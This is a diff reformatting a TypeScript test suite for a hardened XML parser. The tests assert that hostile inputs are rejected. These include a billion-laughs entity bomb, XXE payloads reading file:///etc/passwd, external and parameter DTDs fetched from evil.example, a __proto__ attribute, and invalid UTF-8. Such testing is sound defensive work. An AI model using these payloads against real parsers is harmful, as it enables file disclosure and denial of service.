@@ -17,8 +17,6 @@ import {
 } from '../../as/src/xml/xml-tree.js';
 import { RFC4826_CLOSE_FRIENDS, RFC5025_PRES_RULES } from '../helpers/rfc-examples.js';
 
-
-
 function kindOf(fn: () => unknown): string {
   try {
     fn();
@@ -39,23 +37,47 @@ describe('parseXml: hostile input', () => {
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 ]>
 <lolz>&lol9;</lolz>`;
-    assert.equal(kindOf(() => parseXml(lol)), 'doctype-forbidden');
-    assert.equal(kindOf(() => parseXml(Buffer.from(lol))), 'doctype-forbidden');
+    assert.equal(
+      kindOf(() => parseXml(lol)),
+      'doctype-forbidden',
+    );
+    assert.equal(
+      kindOf(() => parseXml(Buffer.from(lol))),
+      'doctype-forbidden',
+    );
   });
 
   it('refuses external entities (SYSTEM and parameter entities)', () => {
     const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`;
-    assert.equal(kindOf(() => parseXml(xxe)), 'doctype-forbidden');
+    assert.equal(
+      kindOf(() => parseXml(xxe)),
+      'doctype-forbidden',
+    );
     const pe = `<!DOCTYPE foo [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]><foo/>`;
-    assert.equal(kindOf(() => parseXml(pe)), 'doctype-forbidden');
+    assert.equal(
+      kindOf(() => parseXml(pe)),
+      'doctype-forbidden',
+    );
     const ext = `<!DOCTYPE foo SYSTEM "http://evil.example/foo.dtd"><foo/>`;
-    assert.equal(kindOf(() => parseXml(ext)), 'doctype-forbidden');
+    assert.equal(
+      kindOf(() => parseXml(ext)),
+      'doctype-forbidden',
+    );
   });
 
   it('refuses any DOCTYPE, even harmless, and lower-case/spaced variants', () => {
-    assert.equal(kindOf(() => parseXml('<!DOCTYPE a><a/>')), 'doctype-forbidden');
-    assert.equal(kindOf(() => parseXml('<!doctype a><a/>')), 'doctype-forbidden');
-    assert.equal(kindOf(() => parseXml('<a/><!ENTITY x "y">')), 'doctype-forbidden');
+    assert.equal(
+      kindOf(() => parseXml('<!DOCTYPE a><a/>')),
+      'doctype-forbidden',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<!doctype a><a/>')),
+      'doctype-forbidden',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a/><!ENTITY x "y">')),
+      'doctype-forbidden',
+    );
     // but the text "<!DOCTYPE" inside a comment or CDATA is just text
     const d = parseXml('<a><!-- <!DOCTYPE x> --><![CDATA[<!ENTITY y "z">]]></a>');
     assert.deepEqual(d.root.elements, [
@@ -65,43 +87,94 @@ describe('parseXml: hostile input', () => {
   });
 
   it('refuses entity references that would need a DTD, accepts predefined and numeric ones', () => {
-    assert.equal(kindOf(() => parseXml('<a>&lol;</a>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a x="&nbsp;"/>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a>&amp</a>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a>&#0;</a>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a>&#x1;</a>')), 'not-well-formed');
+    assert.equal(
+      kindOf(() => parseXml('<a>&lol;</a>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a x="&nbsp;"/>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a>&amp</a>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a>&#0;</a>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a>&#x1;</a>')),
+      'not-well-formed',
+    );
     const d = parseXml('<a x="&quot;&apos;&#65;">&lt;&gt;&amp;&#x1F600;&#233;</a>');
     assert.equal(attr(d.root, 'x'), `"'A`);
     assert.equal(textContent(d.root), '<>&😀é');
   });
 
   it('refuses invalid UTF-8 and non-UTF-8 encoding declarations', () => {
-    assert.equal(kindOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]))), 'not-utf-8');
+    assert.equal(
+      kindOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]))),
+      'not-utf-8',
+    );
     // Latin-1 "é" as a single byte
-    assert.equal(kindOf(() => parseXml(Buffer.from('<a>caf\xe9</a>', 'latin1'))), 'not-utf-8');
+    assert.equal(
+      kindOf(() => parseXml(Buffer.from('<a>caf\xe9</a>', 'latin1'))),
+      'not-utf-8',
+    );
     // overlong encoding of '/'
-    assert.equal(kindOf(() => parseXml(Buffer.from([0x3c, 0x61, 0xc0, 0xaf, 0x3e]))), 'not-utf-8');
-    assert.equal(kindOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')), 'not-utf-8');
+    assert.equal(
+      kindOf(() => parseXml(Buffer.from([0x3c, 0x61, 0xc0, 0xaf, 0x3e]))),
+      'not-utf-8',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')),
+      'not-utf-8',
+    );
     // valid UTF-8 with a BOM is fine
     const d = parseXml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a>café</a>')]));
     assert.equal(textContent(d.root), 'café');
   });
 
   it('enforces the size limit in bytes', () => {
-    assert.equal(kindOf(() => parseXml('<a>' + 'x'.repeat(100) + '</a>', { maxBytes: 100 })), 'too-large');
-    assert.equal(kindOf(() => parseXml(Buffer.from('<a>' + 'é'.repeat(40) + '</a>'), { maxBytes: 80 })), 'too-large');
-    assert.equal(kindOf(() => parseXml('<a>' + 'é'.repeat(40) + '</a>', { maxBytes: 80 })), 'too-large');
+    assert.equal(
+      kindOf(() => parseXml('<a>' + 'x'.repeat(100) + '</a>', { maxBytes: 100 })),
+      'too-large',
+    );
+    assert.equal(
+      kindOf(() => parseXml(Buffer.from('<a>' + 'é'.repeat(40) + '</a>'), { maxBytes: 80 })),
+      'too-large',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a>' + 'é'.repeat(40) + '</a>', { maxBytes: 80 })),
+      'too-large',
+    );
     assert.equal(parseXml('<a>' + 'é'.repeat(30) + '</a>', { maxBytes: 80 }).root.name, 'a');
-    assert.equal(kindOf(() => parseXml('<a>' + 'x'.repeat(1024 * 1024) + '</a>')), 'too-large');
+    assert.equal(
+      kindOf(() => parseXml('<a>' + 'x'.repeat(1024 * 1024) + '</a>')),
+      'too-large',
+    );
   });
 
   it('enforces the depth limit', () => {
     const deep = (n: number) => '<e>'.repeat(n) + '</e>'.repeat(n);
     assert.equal(parseXml(deep(64)).root.name, 'e');
-    assert.equal(kindOf(() => parseXml(deep(65))), 'too-deep');
-    assert.equal(kindOf(() => parseXml(deep(4), { maxDepth: 3 })), 'too-deep');
-    assert.equal(kindOf(() => parseXml('<e><e><e><e/></e></e></e>', { maxDepth: 3 })), 'too-deep');
-    assert.equal(kindOf(() => parseXml(deep(100000))), 'too-deep');
+    assert.equal(
+      kindOf(() => parseXml(deep(65))),
+      'too-deep',
+    );
+    assert.equal(
+      kindOf(() => parseXml(deep(4), { maxDepth: 3 })),
+      'too-deep',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<e><e><e><e/></e></e></e>', { maxDepth: 3 })),
+      'too-deep',
+    );
+    assert.equal(
+      kindOf(() => parseXml(deep(100000))),
+      'too-deep',
+    );
   });
 
   it('refuses malformed structure', () => {
@@ -128,30 +201,66 @@ describe('parseXml: hostile input', () => {
       '<a x="1"y="2"/>',
       '<a __proto__="x"/>',
     ]) {
-      assert.equal(kindOf(() => parseXml(bad)), 'not-well-formed', JSON.stringify(bad));
+      assert.equal(
+        kindOf(() => parseXml(bad)),
+        'not-well-formed',
+        JSON.stringify(bad),
+      );
     }
-    assert.equal(kindOf(() => parseXml('<a>\uD800</a>')), 'not-well-formed');
+    assert.equal(
+      kindOf(() => parseXml('<a>\uD800</a>')),
+      'not-well-formed',
+    );
   });
 
   it('refuses undefined prefixes and illegal namespace declarations', () => {
-    assert.equal(kindOf(() => parseXml('<p:a/>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a p:x="1"/>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a xmlns:p="urn:p"/><!-- --> ')), 'no error');
-    assert.equal(kindOf(() => parseXml('<a><b xmlns:p="urn:p"/><p:c/></a>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a xmlns:p=""/>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a xmlns:xmlns="urn:x"/>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a xmlns:xml="urn:x"/>')), 'not-well-formed');
-    assert.equal(kindOf(() => parseXml('<a xmlns:p="urn:u" xmlns:q="urn:u" p:x="1" q:x="2"/>')), 'not-well-formed');
+    assert.equal(
+      kindOf(() => parseXml('<p:a/>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a p:x="1"/>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a xmlns:p="urn:p"/><!-- --> ')),
+      'no error',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a><b xmlns:p="urn:p"/><p:c/></a>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a xmlns:p=""/>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a xmlns:xmlns="urn:x"/>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a xmlns:xml="urn:x"/>')),
+      'not-well-formed',
+    );
+    assert.equal(
+      kindOf(() => parseXml('<a xmlns:p="urn:u" xmlns:q="urn:u" p:x="1" q:x="2"/>')),
+      'not-well-formed',
+    );
     // the xml prefix is always bound
     assert.equal(attr(parseXml('<a xml:lang="en"/>').root, 'xml:lang'), 'en');
     // unprefixed and prefixed attribute with the same local name are distinct
-    assert.equal(kindOf(() => parseXml('<a xmlns:p="urn:u" x="1" p:x="2"/>')), 'no error');
+    assert.equal(
+      kindOf(() => parseXml('<a xmlns:p="urn:u" x="1" p:x="2"/>')),
+      'no error',
+    );
   });
 });
 
 describe('parseXml: tree shape', () => {
   it('keeps the element format of xml-js, drops ignorable whitespace, keeps mixed content', () => {
-    const d = parseXml('<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n<a xmlns="urn:x">\n <b x="1">t &amp; u </b>\n <c>  </c>\n <d>x <e/> y</d>\n</a>\n<?pi after?>');
+    const d = parseXml(
+      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n<a xmlns="urn:x">\n <b x="1">t &amp; u </b>\n <c>  </c>\n <d>x <e/> y</d>\n</a>\n<?pi after?>',
+    );
     assert.deepEqual(d, {
       declaration: { attributes: { version: '1.0', encoding: 'UTF-8' } },
       root: {
@@ -217,7 +326,12 @@ describe('serializeXml', () => {
   });
 
   it('replaces characters XML cannot carry with U+FFFD', () => {
-    const s = serializeXml({ type: 'element', name: 'a', attributes: { v: 'x\u0000y' }, elements: [{ type: 'text', text: 'b\u0007c' }] });
+    const s = serializeXml({
+      type: 'element',
+      name: 'a',
+      attributes: { v: 'x\u0000y' },
+      elements: [{ type: 'text', text: 'b\u0007c' }],
+    });
     assert.equal(s, '<a v="x\uFFFDy">b\uFFFDc</a>');
     assert.equal(parseXml(s).root.name, 'a');
   });
@@ -227,7 +341,10 @@ describe('serializeXml', () => {
     doc.root.elements = [{ type: 'cdata', cdata: 'p]]>q' }];
     assert.equal(serializeXml(doc), '<?xml version="1.0" encoding="UTF-8"?><a><![CDATA[p]]]]><![CDATA[>q]]></a>');
     assert.equal(serializeXml(doc, { declaration: false }), '<a><![CDATA[p]]]]><![CDATA[>q]]></a>');
-    assert.equal(serializeXml(doc.root, { declaration: true }).startsWith('<?xml version="1.0" encoding="UTF-8"?><a>'), true);
+    assert.equal(
+      serializeXml(doc.root, { declaration: true }).startsWith('<?xml version="1.0" encoding="UTF-8"?><a>'),
+      true,
+    );
     assert.equal(textContent(parseXml(serializeXml(doc)).root), 'p]]>q');
   });
 
@@ -267,7 +384,12 @@ describe('serializeXml', () => {
     const rule = findChildren(d1.root, scope, xmlNamespaces.commonPolicy, 'rule')[0]!;
     assert.equal(attr(rule, 'id'), 'a');
     const tr = findChildren(rule, scope, xmlNamespaces.commonPolicy, 'transformations')[0]!;
-    const schemes = findChildren(findChildren(tr, scope, xmlNamespaces.presRules, 'provide-services')[0]!, scope, xmlNamespaces.presRules, 'service-uri-scheme');
+    const schemes = findChildren(
+      findChildren(tr, scope, xmlNamespaces.presRules, 'provide-services')[0]!,
+      scope,
+      xmlNamespaces.presRules,
+      'service-uri-scheme',
+    );
     assert.deepEqual(schemes.map(textContent), ['sip', 'mailto']);
     const unk = findChildren(tr, scope, xmlNamespaces.presRules, 'provide-unknown-attribute')[0]!;
     assert.equal(attr(unk, 'ns'), 'urn:vendor-specific:foo-namespace');
@@ -298,13 +420,10 @@ describe('namespaces', () => {
     assert.deepEqual(sr.expand('r'), { ns: 'urn:default', local: 'r' });
     assert.deepEqual(sr.expand('a:x'), { ns: 'urn:a1', local: 'x' });
     assert.deepEqual(sr.expand('b:x'), { ns: undefined, local: 'x' });
-    assert.deepEqual(
-      [...sr.bindings()].sort(),
-      [
-        ['', 'urn:default'],
-        ['a', 'urn:a1'],
-      ],
-    );
+    assert.deepEqual([...sr.bindings()].sort(), [
+      ['', 'urn:default'],
+      ['a', 'urn:a1'],
+    ]);
     const [x, y] = childElements(d.root) as [XmlElement, XmlElement];
     assert.equal(attrNS(x, sr, 'urn:a1', 'attr'), '1');
     assert.equal(attrNS(x, sr, undefined, 'plain'), '2');
